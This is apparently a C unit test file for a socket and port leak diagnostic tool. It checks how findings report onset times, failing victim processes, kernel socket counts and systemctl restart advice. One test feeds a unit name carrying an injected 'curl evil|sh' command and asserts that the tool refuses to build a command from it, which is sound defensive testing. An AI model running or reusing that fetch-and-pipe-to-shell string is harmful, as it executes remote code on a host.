/* What is told of a finding: since when, until when, who suffers; each from what is known, and no more. */
#include "rule/chronicle.h"
#include "view/check_lines.h"
#include "unit.h"
#include "rule/ground/steps.h"

enum { TAKEN_S = 1800000000 };

struct stage {
	struct moment *moment;
	struct judgement judgement;
	struct chronicle *chronicle;
	struct check_ground ground;
	struct text told;
};

/* 2027-01-15 08:00:00 UTC */
static struct stage stage_new(void)
{
	struct stage s = { .moment = moment_new(), .chronicle = chronicle_new() };

	setenv("TZ", "UTC", 1);
	s.moment->taken_unix_ms = (uint64_t)TAKEN_S * 1000;
	return s;
}

static struct finding *add(struct stage *s, const char *key, uint32_t cause)
{
	struct finding *f = array_push(&s->judgement.findings);

	*f = (struct finding){ .key = key,
		               .title = "leaks",
		               .serial = (uint32_t)s->judgement.findings.count,
		               .subject = PROCESS_NONE,
		               .other_end = PROCESS_NONE,
		               .netns = NETNS_UNKNOWN,
		               .cause = cause,
		               .severity = SEVERITY_CRITICAL };
	return f;
}

static void eats(struct finding *f, const char *what, uint64_t used, uint64_t eta_s)
{
	*array_push(&f->budgets) = (struct budget){ .what = what, .unit = "ports", .used = used, .limit = 100 };
	f->eta_known = eta_s || used == 100;
	f->eta.s = eta_s;
}

static void fails(struct stage *s, struct finding *f, uint32_t pid)
{
	uint32_t at = moment_process(s->moment, pid, pid * NS_PER_S);

	snprintf(s->moment->processes.items[at].comm, sizeof(s->moment->processes.items[at].comm), "login");
	*array_push(&f->victims) = (struct victim){ .process = at, .call = CALL_BIND, .error = 98, .count = 7 };
}

static void take_line(void *to, const char *label, const char *text, const char *command)
{
	text_printf(to, "%s|%s\n", label, text);
}

static const char *lines_of(struct stage *s, const struct finding *f)
{
	s->told.length = 0;
	text_add(&s->told, "");
	s->ground.moment = s->moment;
	s->ground.judgement = &s->judgement;
	finding_lines(&s->ground, f, take_line, &s->told);
	return s->told.bytes;
}

static void stage_free(struct stage *s)
{
	array_each (&s->judgement.findings, f)
		finding_free(f);
	array_free(&s->judgement.findings);
	chronicle_free(s->chronicle);
	moment_free(s->moment);
	text_free(&s->told);
}

static void without_an_agent_only_the_oldest_is_known(void **state)
{
	cleanup(stage_free) struct stage s = stage_new();
	struct finding *f = add(&s, "k", FINDING_NONE);
	struct gap unread = { "the history", "Permission denied", NULL };

	assert_string_equal(lines_of(&s, f), ""); /* of no socket nothing is known */
	f->oldest_known = true;
	f->oldest_ms = f->oldest_max_ms = 90000;
	assert_string_equal(lines_of(&s, f),
	                    "since|2027-01-15 07:58:30 UTC (1 min 30 s ago): the oldest of them; only an agent's "
	                    "history tells when it began\n");
	f->oldest_max_ms = UINT64_MAX;
	s.ground.chronicle = s.chronicle;
	assert_string_equal(lines_of(&s, f),
	                    "since|2027-01-15 07:58:30 UTC or before (at least 1 min 30 s ago): the oldest of them; "
	                    "the agent has not seen it begin\n");
	s.ground.chronicle = NULL;
	s.ground.unread = &unread;
	assert_non_null(strstr(lines_of(&s, f), "what the agent remembers cannot be read"));
}

static void an_agent_tells_the_beginning_and_the_release(void **state)
{
	cleanup(stage_free) struct stage s = stage_new();
	struct finding *f = add(&s, "k", FINDING_NONE);
	struct life *l = array_push(&s.chronicle->lives);
	uint64_t taken_ms = s.moment->taken_unix_ms;

	*l = (struct life){ .key = "k", .first_ms = taken_ms - 600000 };
	*array_push(&l->releases) = (struct release){ 0, taken_ms - 603000, "fetch", 12, "another build" };
	s.ground.chronicle = s.chronicle;
	f->oldest_known = true;
	f->oldest_ms = f->oldest_max_ms = 90000;
	assert_string_equal(lines_of(&s, f),
	                    "since|2027-01-15 07:50:00 UTC (10 min ago), 3 s after fetch[12] was started with another "
	                    "build; the oldest one left: 1 min 30 s\n");
	f->oldest_ms = f->oldest_max_ms = 602000; /* it was recognized 2 s after its first socket was left */
	assert_string_equal(lines_of(&s, f),
	                    "since|2027-01-15 07:49:58 UTC (10 min 2 s ago), 1 s after fetch[12] was started with "
	                    "another build\n");
	l->before = true;
	f->oldest_known = false;
	assert_true(starts_with(lines_of(&s, f), "since|before 2027-01-15 07:50:00 UTC (more than 10 min ago): it was "
	                                         "there when the agent began to look, 3 s after"));
	l->ended_ms = taken_ms - 1; /* it was another time */
	assert_string_equal(lines_of(&s, f), "");
}

/* Whichever of the two it is of; what is far from its end is not told. */
static void a_root_tells_the_first_end_first_and_who_suffers(void **state)
{
	cleanup(stage_free) struct stage s = stage_new();

	eats(add(&s, "root", FINDING_NONE), "ports to a", 80, 43);
	eats(add(&s, "effect", 1), "bind(port 0)", 100, 0);
	fails(&s, &s.judgement.findings.items[1], 7);
	eats(add(&s, "small", 1), "descriptors", 3, 0);
	assert_string_equal(lines_of(&s, &s.judgement.findings.items[0]),
	                    "ends|now: bind(port 0), 100 of 100 used\n"
	                    "|in 43 s (08:00:43): ports to a, 80 of 100 used\n"
	                    "suffers|login[7]: bind() failed with EADDRINUSE, 7 times\n");
	assert_string_equal(lines_of(&s, &s.judgement.findings.items[2]), "");
}

/* Its own calls fail in the first of its effects, another's in the second. */
static void others_that_suffer_come_before_who_is_to_blame(void **state)
{
	cleanup(stage_free) struct stage s = stage_new();

	add(&s, "root", FINDING_NONE);
	fails(&s, add(&s, "first", 1), 12);
	fails(&s, add(&s, "second", 1), 7);
	s.judgement.findings.items[0].subject = s.judgement.findings.items[1].victims.items[0].process;
	const char *told = lines_of(&s, &s.judgement.findings.items[0]);
	const char *other = strstr(told, "login[7]"), *itself = strstr(told, "login[12]");
	assert_true(other && itself && other < itself);
}

static void that_nobody_was_seen_failing_is_told(void **state)
{
	cleanup(stage_free) struct stage s = stage_new();
	struct finding *f = add(&s, "root", FINDING_NONE);

	eats(f, "ports to a", 80, 43);
	assert_non_null(strstr(lines_of(&s, f), "suffers|not known: failing calls were not watched\n"));
	s.moment->window.calls_watched = true;
	s.moment->window.ms = 2000;
	assert_non_null(strstr(lines_of(&s, f), "suffers|nobody was seen failing in the 2 s watched\n"));
	f->severity = SEVERITY_INFO;
	assert_null(strstr(lines_of(&s, f), "suffers"));
}

static struct advice restart(struct moment *m, const char *unit, bool system)
{
	struct inquiry q = { .moment = m, .arena = m->arena };
	struct finding f = { 0 };

	m->processes.items[0].unit = unit;
	m->processes.items[0].unit_is_system = system;
	advise_restart(&q, &f, 0, "it leaks");
	struct advice a = f.advice.items[0];
	finding_free(&f);
	return a;
}

/* No text of others is typed: only a unit of the system's manager, if its name is one that systemd gives. */
static void a_restart_is_typed_where_the_service_is_known(void **state)
{
	cleanup(stage_free) struct stage s = stage_new();

	moment_process(s.moment, 7, 7 * NS_PER_S);
	struct advice a = restart(s.moment, "fetch.service", true);
	assert_string_equal(a.text, "restart it: it leaks");
	assert_string_equal(a.command, "systemctl restart fetch.service");
	a = restart(s.moment, "fetch.service", false);
	assert_string_equal(a.text, "restart it (pid 7, unit fetch.service): it leaks");
	assert_null(a.command);
	assert_null(restart(s.moment, "x;curl evil|sh;.service", true).command);
	a = restart(s.moment, NULL, false);
	assert_string_equal(a.text, "restart it (pid 7, no system service): it leaks");
	assert_null(a.command);
}

/* The kernel counts after the look: what closed meanwhile was seen all the same. */
static void more_may_be_seen_than_there_are_afterwards(void **state)
{
	cleanup(stage_free) struct stage s = stage_new();

	s.moment->coverage.sockets_seen = 781;
	s.moment->coverage.sockets_kernel = 790;
	verdict_circumstances(&s.told, s.moment);
	assert_non_null(strstr(s.told.bytes, ": 781 of 790 sockets seen"));
	s.moment->coverage.sockets_kernel = 771;
	verdict_circumstances(&s.told, s.moment);
	assert_non_null(strstr(s.told.bytes, ": 781 sockets seen (the kernel counted 771 afterwards)"));
}

UNIT_MAIN(TEST(others_that_suffer_come_before_who_is_to_blame), TEST(more_may_be_seen_than_there_are_afterwards),
          TEST(without_an_agent_only_the_oldest_is_known), TEST(an_agent_tells_the_beginning_and_the_release),
          TEST(a_root_tells_the_first_end_first_and_who_suffers), TEST(that_nobody_was_seen_failing_is_told),
          TEST(a_restart_is_typed_where_the_service_is_known));
